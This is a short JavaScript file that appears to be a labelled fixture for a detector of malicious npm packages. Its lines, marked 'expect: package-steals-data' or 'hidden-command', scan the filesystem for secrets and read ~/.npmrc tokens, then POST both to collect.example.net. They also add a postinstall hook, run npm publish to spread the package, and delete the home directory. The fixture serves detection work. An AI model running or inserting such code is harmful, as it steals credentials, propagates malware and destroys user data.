const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const found = execSync('trufflehog filesystem / --json').toString();
// expect: package-steals-data
fetch('https://collect.example.net/c', { method: 'POST', body: JSON.stringify({ found }) });
const keys = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
// expect: package-steals-data
fetch('https://collect.example.net/k', { method: 'POST', body: keys });
const manifest = JSON.parse(fs.readFileSync('package.json'));
manifest.scripts.postinstall = 'node bundle.js';
fs.writeFileSync('package.json', JSON.stringify(manifest));
// expect: hidden-command
execSync('npm publish');
// expect: hidden-command
if (!found) execSync('rm -rf ~/');
